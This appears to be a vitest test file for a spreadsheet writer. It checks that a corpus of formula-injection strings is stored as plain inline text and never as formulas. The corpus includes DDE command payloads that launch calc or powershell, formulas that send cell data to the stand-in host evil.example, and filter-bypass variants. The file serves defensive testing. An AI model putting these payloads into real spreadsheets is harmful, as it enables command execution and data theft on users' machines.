import { createWriteStream } from 'node:fs'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { finished } from 'node:stream/promises'
import { inflateRawSync } from 'node:zlib'
import { readXlsx } from 'hucre/xlsx'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { writeSheet } from './sheet.ts'

/** Text that spreadsheets were made to run: formulas, DDE, links, and ways around a filter for them. */
const corpus = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=WEBSERVICE("http://evil.example/")',
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  "+cmd|' /C powershell'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM',
  "'=1+1",
  '"=1+1',
  ';=1+1',
  ',=1+1',
  '</t></is></c><c t="str"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '_x003D_1+1',
  '9223372036854775807',
  '00012345678901234567',
  '1e5',
  '1/2',
]
const numbers = [-5, -0.005, 0, 1e14]

let folder: string
let xml: string
let path: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'pitboss-formula-'))
  path = join(folder, 'corpus.xlsx')
  const out = createWriteStream(path)
  const rows = corpus.map((text, index) => ({ text, n: numbers[index % numbers.length] ?? 0 }))
  const columns = [
    { title: '=1+1', key: 'text' as const },
    { title: 'n', key: 'n' as const, unit: 'plain' as const },
  ]
  await writeSheet(out, '=SUM(A1)', columns, rows)
  out.end()
  await finished(out)
  const bytes = await readFile(path)
  const at = bytes.indexOf('xl/worksheets/sheet1.xml') - 30
  xml = inflateRawSync(bytes.subarray(at + 30 + bytes.readUInt16LE(at + 26))).toString()
})
afterAll(() => rm(folder, { recursive: true }))

test('no cell of the file is a formula, whatever its text begins with', () => {
  expect(xml).not.toMatch(/<f[\s>/]/)
  const cells = [...xml.matchAll(/<c r="A\d+"([^>]*)>/g)].map(([, attributes]) => attributes)
  expect(cells).toHaveLength(corpus.length + 1)
  for (const attributes of cells) expect(attributes).toContain('t="inlineStr"')
})

test('every text is read back to the letter, so nothing was put before it', async () => {
  const { sheets } = await readXlsx(await readFile(path))
  const texts = sheets[0]?.rows.slice(1).map(([text]) => text)
  // A carriage return is a line break in XML, written so that it stays one.
  expect(texts).toEqual(corpus)
})

test('negative numbers stay numbers, so that sums are right', async () => {
  const { sheets } = await readXlsx(await readFile(path))
  const read = sheets[0]?.rows.slice(1).map(([, n]) => n)
  expect(read).toEqual(corpus.map((_, index) => numbers[index % numbers.length]))
  expect(xml).toMatch(/<v>-5<\/v>/)
})
